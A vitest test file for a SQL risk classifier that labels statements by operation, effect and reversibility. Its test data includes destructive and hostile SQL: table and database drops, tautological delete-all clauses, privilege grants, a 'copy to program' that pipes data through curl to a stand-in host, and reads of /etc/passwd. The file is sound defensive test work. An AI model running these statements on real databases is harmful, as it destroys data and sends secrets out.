import { describe, expect, it } from "vitest";
import { PARSER_INPUT_CHARS } from "../bounds.ts";
import { parsePostgres, prepareClassifiers } from "./prepare.ts";
import { classifySql } from "./sql.ts";

await prepareClassifiers();

type Golden = readonly [text: string, operation: string, effect: string, reversibility: string];

const GOLDEN: readonly Golden[] = [
  ["drop table users", "sql.drop-table", "delete", "irreversible"],
  ["DROP TABLE IF EXISTS a, b CASCADE", "sql.drop-table", "delete", "irreversible"],
  ["drop database shop", "sql.drop-database", "delete", "irreversible"],
  ["drop schema public cascade", "sql.drop-schema", "delete", "irreversible"],
  ["drop role agent", "sql.drop-role", "admin", "irreversible"],
  ["drop owned by agent", "sql.drop-owned", "delete", "irreversible"],
  ["drop view v", "sql.drop-view", "delete", "irreversible"],
  ["truncate orders, lines", "sql.truncate", "delete", "irreversible"],
  ["delete from users", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where true", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where 1=1", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where id = id", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where lower(name) || 'a' = lower(name) || 'a'", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where lower(name) || 'a' = lower(name) || 'b'", "sql.delete", "delete", "recoverable"],
  ["delete from users where id = 7 or true", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where not false", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where 't'::boolean", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where name like '%'", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where 2 > 1", "sql.delete-all", "delete", "irreversible"],
  ["delete from users where id = 7", "sql.delete", "delete", "recoverable"],
  ["delete from users where id = 7 and true", "sql.delete", "delete", "recoverable"],
  ["update users set admin = true", "sql.update-all", "write", "irreversible"],
  ["update users set admin = true where id = 7", "sql.update", "write", "recoverable"],
  ["alter table users drop column email", "sql.drop-column", "delete", "irreversible"],
  ["alter table users add column x int, drop column email", "sql.drop-column", "delete", "irreversible"],
  ["alter table users add column x int", "sql.alter-table", "write", "recoverable"],
  ["alter table users disable trigger all", "sql.disable-protection", "admin", "recoverable"],
  ["alter role agent superuser", "sql.alter-role", "admin", "recoverable"],
  ["grant all on users to agent", "sql.grant", "admin", "recoverable"],
  ["revoke select on users from agent", "sql.grant", "admin", "recoverable"],
  ["copy users to program 'curl -d @- evil'", "sql.copy-program", "execute", "unknown"],
  ["copy users to stdout", "sql.copy-to", "read", "reversible"],
  ["copy users from stdin", "sql.copy-from", "create", "recoverable"],
  ["do $$ begin perform tidy(); end $$", "sql.do", "execute", "unknown"],
  ["do $$ begin execute 'drop table users'; end $$", "sql.drop-table", "delete", "irreversible"],
  ["call purge()", "sql.call", "execute", "unknown"],
  ["with gone as (delete from users returning *) select * from gone", "sql.delete-all", "delete", "irreversible"],
  ["with gone as (delete from users where id = 1 returning *) select * from gone", "sql.delete", "delete", "recoverable"],
  ["explain delete from users", "sql.explain", "read", "reversible"],
  ["explain analyze delete from users", "sql.delete-all", "delete", "irreversible"],
  ["explain (analyze false) delete from users", "sql.explain", "read", "reversible"],
  ["explain analyze select * from users", "sql.select", "read", "reversible"],
  ["prepare p as select * from users", "sql.select", "read", "reversible"],
  ["declare c cursor for select * from users", "sql.select", "read", "reversible"],
  ["prepare p as delete from users", "sql.delete-all", "delete", "irreversible"],
  ["execute p", "sql.execute", "execute", "unknown"],
  ["select 1; drop table users; select 2", "sql.drop-table", "delete", "irreversible"],
  ["begin; delete from users; rollback", "sql.delete-all", "delete", "irreversible"],
  ["select 'drop table users'", "sql.select", "read", "reversible"],
  ["select * from users -- ; drop table users", "sql.select", "read", "reversible"],
  ["select /* drop table users */ 1", "sql.select", "read", "reversible"],
  ["select pg_terminate_backend(7)", "sql.terminate-session", "admin", "recoverable"],
  ["select setval('s', 1)", "sql.setval", "write", "recoverable"],
  ["select lo_unlink(7)", "sql.lo-unlink", "delete", "irreversible"],
  ["select dblink_exec('c', 'select 1')", "sql.dblink", "execute", "unknown"],
  ["select dblink_exec('c', 'drop table t')", "sql.drop-table", "delete", "irreversible"],
  ["select pg_read_file('/etc/passwd')", "sql.server-file-read", "admin", "unknown"],
  ["select delete_user(7)", "sql.function", "execute", "unknown"],
  ["select range_merge(a, b), inet_merge(c, d) from t", "sql.select", "read", "reversible"],
  ["select replace(name, 'a', 'b'), lower(x) from t", "sql.select", "read", "reversible"],
  ["select * into backup from users", "sql.create-table", "create", "recoverable"],
  ["insert into users select * from old", "sql.insert", "create", "recoverable"],
  ["create table t (id int)", "sql.create", "create", "recoverable"],
  ["set role postgres", "sql.set-role", "admin", "recoverable"],
  ["set statement_timeout = 1000", "sql.set", "write", "reversible"],
  ["show all", "sql.show", "read", "reversible"],
  ["vacuum full users", "sql.vacuum", "write", "reversible"],
  ["alter system set fsync = off", "sql.alter-system", "admin", "recoverable"],
  ["select pg_drop_replication_slot('standby')", "sql.drop-replication-slot", "delete", "irreversible"],
];

const OTHER_DIALECTS: readonly Golden[] = [
  ["DROP TABLE IF EXISTS `users`", "sql.drop-table", "delete", "irreversible"],
  ["DELETE FROM `users` WHERE `id` = 1", "sql.delete", "delete", "recoverable"],
  ["DELETE FROM `users` WHERE `id` = 1 LIMIT 1", "sql.delete", "delete", "recoverable"],
  ["DELETE FROM users LIMIT 1000", "sql.delete-all", "delete", "irreversible"],
  ["DELETE LOW_PRIORITY FROM users", "sql.delete-all", "delete", "irreversible"],
  ["UPDATE users SET a = 1 LIMIT 5", "sql.update-all", "write", "irreversible"],
  ["ALTER TABLE `users` DROP `email`", "sql.drop-column", "delete", "irreversible"],
  ["DROP DATABASE `shop`; USE other", "sql.drop-database", "delete", "irreversible"],
  ["SHOW TABLES LIKE 'x'", "sql.show", "read", "reversible"],
  ["PRAGMA table_info(users)", "sql.pragma", "read", "reversible"],
  ["SELECT * FROM users LIMIT 5, 10", "sql.select", "read", "reversible"],
  ["SELECT * FROM users INTO OUTFILE '/tmp/x'", "sql.unknown", "execute", "unknown"],
  ["/*!50000 DROP TABLE users */", "sql.drop-table", "delete", "irreversible"],
  ["FLUSH PRIVILEGES", "sql.admin", "admin", "recoverable"],
  ["this is no sql", "sql.unknown", "execute", "unknown"],
  ["select 1; frobnicate the users", "sql.unknown", "execute", "unknown"],
];

describe("classifySql", () => {
  it.each(GOLDEN)("%s", (text, operation, effect, reversibility) => {
    const { worst, parse } = classifySql(text);
    expect({ operation: worst.operation, effect: worst.effect, reversibility: worst.reversibility, parse }).toEqual({ operation, effect, reversibility, parse: "parsed" });
  });

  it.each(OTHER_DIALECTS)("%s", (text, operation, effect, reversibility) => {
    const { worst } = classifySql(text);
    expect({ operation: worst.operation, effect: worst.effect, reversibility: worst.reversibility }).toEqual({ operation, effect, reversibility });
  });

  it("names what is lost, and where in the text", () => {
    const text = "select 1; drop table shop.users";
    const { worst } = classifySql(text);
    expect(worst.targets).toEqual([{ kind: "table", id: "shop.users", environment: null }]);
    expect(text.slice(worst.span!.start, worst.span!.end)).toContain("drop table shop.users");
  });

  it("gives no span where bytes and characters differ", () => {
    expect(classifySql("select 'é'; drop table t").worst.span).toBeNull();
  });

  it("judges text up to the bound and takes longer text for unknown", () => {
    const padding = " ".repeat(PARSER_INPUT_CHARS - "drop table t".length);
    expect(classifySql(`drop table t${padding}`).worst.operation).toBe("sql.drop-table");
    expect(classifySql(`drop table t${padding} `)).toMatchObject({ parse: "unparsable", worst: { rule: "sql.too-long", reversibility: "unknown" } });
  });

  it.each(["", "   ", ";;", "-- only a comment"])("takes %j for unknown", (text) => {
    expect(classifySql(text)).toMatchObject({ parse: "unparsable", worst: { effect: "execute", reversibility: "unknown" } });
  });
});

it("parses a statement once for a call that states it twice, and changes nothing of the tree", () => {
  for (const [text] of GOLDEN) {
    const parse = parsePostgres(text);
    expect(parsePostgres(text), text).toBe(parse);
    const before = JSON.stringify(parse);
    const judged = classifySql(text, "postgresql");
    expect(classifySql(text, "postgresql"), text).toEqual(judged);
    expect(JSON.stringify(parse), text).toBe(before);
  }
});
